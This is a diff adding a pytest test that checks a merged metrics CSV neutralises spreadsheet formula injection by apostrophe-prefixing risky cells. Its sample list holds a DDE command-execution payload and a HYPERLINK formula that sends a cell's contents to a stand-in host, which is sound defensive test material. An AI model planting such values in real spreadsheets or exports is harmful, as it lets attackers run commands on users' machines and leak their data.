@@ -575,6 +575,33 @@ def test_keys_with_any_line_end_are_one_record_each_in_the_merged_csv(compare_fi
     assert sorted(record[header.index("image_key")] for record in records) == sorted(keys)
 
 
+FORMULAS = [
+    *("=cmd|' /C calc'!A0", "+1+1", "-2+3.jpg", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1"),
+    *('=HYPERLINK("http://x.example?"&A1)', "＝1", "'=1+1", "'", "''a", "a=1+1", " =1"),  # noqa: RUF001
+]
+
+
+def spreadsheet_runs(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))  # noqa: RUF001
+
+
+def test_no_cell_of_the_merged_csv_is_a_formula_and_one_apostrophe_off_gives_the_text_back(
+    compare_files,
+):
+    on_prem = [row(key, source="on_prem", environment="local", worker=key) for key in FORMULAS]
+    cloud = [row(key, status="error", error=f"={key}", transform="@x") for key in FORMULAS]
+    compare_files(on_prem, [*cloud, row("=only here")], "--no-download")
+    with (compare_files.output / "merged_metrics.csv").open(newline="") as file:
+        records = list(csv.DictReader(file))
+    assert [cell for record in records for cell in record.values() if spreadsheet_runs(cell)] == []
+    texts = ("image_key", "worker_on_prem", "error_cloud")
+    found = {tuple(record[name].removeprefix("'") for name in texts) for record in records}
+    expected = {(key, key, f"={key}") for key in FORMULAS}
+    assert found == expected | {("=only here", "", "")}
+    assert {record["transform_cloud"] for record in records} == {"'@x", "v1"}
+    assert {float(record["proc_ms_cloud"]) for record in records} == {12.5}  # numbers stay numbers
+
+
 @pytest.mark.parametrize(
     "flags", [["--aa"], ["--run-id", "x"], ["--timeout", "1"], ["--allow-partial"]], ids=" ".join
 )
